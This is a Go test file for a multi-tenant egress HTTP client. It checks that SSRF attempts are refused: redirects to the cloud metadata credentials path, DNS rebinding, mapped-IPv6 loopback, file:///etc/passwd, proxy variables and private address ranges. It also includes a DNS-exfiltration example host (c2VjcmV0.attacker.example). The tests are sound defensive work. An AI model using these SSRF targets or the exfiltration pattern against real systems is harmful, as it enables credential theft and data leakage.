package egress_test

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/millrace-io/millrace/internal/egress"
	"github.com/millrace-io/millrace/internal/tenancy"
)

// metadataStandIn plays the cloud metadata service (169.254.169.254) on 127.0.0.1: it hands out
// credentials to whoever asks, and counts the requests that reached it.
func metadataStandIn(t *testing.T) (*httptest.Server, *atomic.Int64) {
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		_, _ = w.Write([]byte(`{"AccessKeyId":"ASIANODEROLE","SecretAccessKey":"node-secret"}`))
	}))
	t.Cleanup(srv.Close)
	return srv, &hits
}

func port(t *testing.T, srv *httptest.Server) int {
	u, _ := url.Parse(srv.URL)
	p, err := strconv.Atoi(u.Port())
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// fakeDNS answers every name with fixed addresses: a rebinding attacker's DNS server.
type fakeDNS map[string][]netip.Addr

func (f fakeDNS) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	if a, ok := f[host]; ok {
		return a, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

func grants(dests ...tenancy.Destination) tenancy.Grants {
	return tenancy.Grants{Namespace: "tenant", Destinations: dests}
}

func get(t *testing.T, c *egress.Client, g tenancy.Grants, u string) (*egress.Response, error) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, u, nil)
	if err != nil {
		t.Fatal(err)
	}
	return c.Do(context.Background(), g, req, 5*time.Second)
}

func forbidden(err error) bool {
	var f *egress.ForbiddenError
	return errors.As(err, &f)
}

func TestAttacksOnTheMetadataServiceAreRefusedWhenDialling(t *testing.T) {
	meta, hits := metadataStandIn(t)
	metaPort := port(t, meta)
	innocent := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, meta.URL+"/latest/meta-data/iam/security-credentials/node", http.StatusFound)
	}))
	defer innocent.Close()
	loopback := netip.MustParsePrefix("127.0.0.1/32")
	dns := fakeDNS{
		"rebind.example.com": {netip.MustParseAddr("127.0.0.1")},
		"metadata.example":   {netip.MustParseAddr("169.254.169.254")},
	}
	c := egress.New(egress.Options{Resolver: dns, ConnectTimeout: time.Second})
	cases := []struct {
		name  string
		url   string
		grant tenancy.Grants
	}{
		{"a loopback address without any grant", meta.URL, grants()},
		{"a loopback address whose port is not granted", meta.URL, grants(tenancy.Destination{Prefix: loopback, Ports: []int{port(t, innocent)}})},
		{"a redirect from a granted server to an address that is not granted", innocent.URL, grants(tenancy.Destination{Prefix: loopback, Ports: []int{port(t, innocent)}})},
		{"a granted host name whose DNS answer points at loopback (rebinding)",
			fmt.Sprintf("http://rebind.example.com:%d/", metaPort), grants(tenancy.Destination{Host: "rebind.example.com", Ports: []int{metaPort}})},
		{"a granted wildcard whose DNS answer is link-local", fmt.Sprintf("http://metadata.example:%d/", metaPort),
			grants(tenancy.Destination{Host: "*.example", Ports: []int{metaPort}}, tenancy.Destination{Host: "metadata.example", Ports: []int{metaPort}})},
		{"an IPv4-mapped IPv6 literal of loopback", fmt.Sprintf("http://[::ffff:127.0.0.1]:%d/", metaPort), grants()},
		{"a non-http scheme", "file:///etc/passwd", grants(tenancy.Destination{Prefix: loopback, Ports: []int{metaPort}})},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := get(t, c, tc.grant, tc.url)
			if !forbidden(err) {
				t.Fatalf("want a ForbiddenError, got %v", err)
			}
		})
	}
	if n := hits.Load(); n != 0 {
		t.Fatalf("the metadata stand-in was reached %d times", n)
	}
}

func TestAGrantedDestinationIsReached(t *testing.T) {
	meta, hits := metadataStandIn(t)
	p := port(t, meta)
	c := egress.New(egress.Options{Resolver: fakeDNS{"svc.example.com": {netip.MustParseAddr("127.0.0.1")}}})
	resp, err := get(t, c, grants(tenancy.Destination{Prefix: netip.MustParsePrefix("127.0.0.0/8"), Ports: []int{p}}), meta.URL)
	if err != nil || resp.StatusCode != http.StatusOK || hits.Load() != 1 {
		t.Fatalf("a cidr rule naming loopback and the port: %v %+v, hits %d", err, resp, hits.Load())
	}
	// A host rule with a cidr rule for its private address: the cidr rule admits it.
	_, err = get(t, c, grants(tenancy.Destination{Host: "svc.example.com", Ports: []int{p}},
		tenancy.Destination{Prefix: netip.MustParsePrefix("127.0.0.1/32"), Ports: []int{p}}), fmt.Sprintf("http://svc.example.com:%d/", p))
	if err != nil {
		t.Fatal(err)
	}
}

func TestProxyVariablesAreIgnored(t *testing.T) {
	var proxied atomic.Int64
	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { proxied.Add(1) }))
	defer proxy.Close()
	target, _ := metadataStandIn(t)
	t.Setenv("HTTP_PROXY", proxy.URL)
	t.Setenv("http_proxy", proxy.URL)
	c := egress.New(egress.Options{})
	if _, err := get(t, c, grants(tenancy.Destination{Prefix: netip.MustParsePrefix("127.0.0.1/32"), Ports: []int{port(t, target)}}), target.URL); err != nil {
		t.Fatal(err)
	}
	if proxied.Load() != 0 {
		t.Fatal("the call went through the proxy named by HTTP_PROXY")
	}
}

func TestAnAnswerOverTheLimitFailsTheCall(t *testing.T) {
	big := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte(strings.Repeat("x", 2048)))
	}))
	defer big.Close()
	c := egress.New(egress.Options{MaxBody: 1024})
	_, err := get(t, c, grants(tenancy.Destination{Prefix: netip.MustParsePrefix("127.0.0.1/32"), Ports: []int{port(t, big)}}), big.URL)
	if !errors.Is(err, egress.ErrBodyTooLarge) {
		t.Fatalf("want ErrBodyTooLarge, got %v", err)
	}
}

func TestASlowServerIsCutOffAtTheTimeout(t *testing.T) {
	release := make(chan struct{})
	slow := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	defer slow.Close()
	defer close(release)
	c := egress.New(egress.Options{})
	req, _ := http.NewRequest(http.MethodGet, slow.URL, nil)
	_, err := c.Do(context.Background(), grants(tenancy.Destination{Prefix: netip.MustParsePrefix("127.0.0.1/32"), Ports: []int{port(t, slow)}}), req, 200*time.Millisecond)
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("want a deadline error, got %v", err)
	}
}

func TestBlockedRanges(t *testing.T) {
	c := egress.New(egress.Options{ClusterRanges: []netip.Prefix{netip.MustParsePrefix("203.0.113.0/24")}})
	for addr, blocked := range map[string]bool{
		"127.0.0.1": true, "169.254.169.254": true, "fd00:ec2::254": true, "10.1.2.3": true, "172.16.0.1": true,
		"192.168.1.1": true, "100.64.0.1": true, "0.0.0.0": true, "::": true, "::1": true, "fe80::1": true,
		"::ffff:169.254.169.254": true, "64:ff9b::a9fe:a9fe": true, "2002:a9fe:a9fe::": true, "224.0.0.1": true,
		"255.255.255.255": true, "203.0.113.7": true,
		"93.184.215.14": false, "2606:2800:21f:cb07:6820:80da:af6b:8b2c": false,
	} {
		if got := c.Blocked(netip.MustParseAddr(addr)) != ""; got != blocked {
			t.Errorf("Blocked(%s) = %v, want %v", addr, got, blocked)
		}
	}
}

// countingDNS counts the names it is asked to resolve.
type countingDNS struct{ asked atomic.Int64 }

func (c *countingDNS) LookupNetIP(context.Context, string, string) ([]netip.Addr, error) {
	c.asked.Add(1)
	return []netip.Addr{netip.MustParseAddr("93.184.215.14")}, nil
}

// A name no rule admits is refused before it is resolved: the tenant cannot make the manager's
// resolver carry data out in DNS queries (secret.attacker.example).
func TestANameNoRuleAdmitsIsNotResolved(t *testing.T) {
	dns := &countingDNS{}
	c := egress.New(egress.Options{Resolver: dns})
	_, err := get(t, c, grants(tenancy.Destination{Host: "api.example.com", Ports: []int{443}}), "https://c2VjcmV0.attacker.example/")
	if !forbidden(err) || dns.asked.Load() != 0 {
		t.Fatalf("err %v, %d lookups", err, dns.asked.Load())
	}
}
